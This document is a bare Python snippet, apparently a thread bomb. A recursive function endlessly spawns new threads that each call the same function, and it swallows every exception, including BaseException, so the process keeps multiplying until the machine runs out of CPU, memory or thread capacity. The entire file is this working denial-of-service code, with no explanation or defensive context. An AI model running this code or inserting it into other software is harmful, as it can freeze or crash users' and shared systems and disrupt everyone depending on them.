import threading
def run():
    while True:
        try: threading.Thread(target=run).start()
        except BaseException: pass
run()
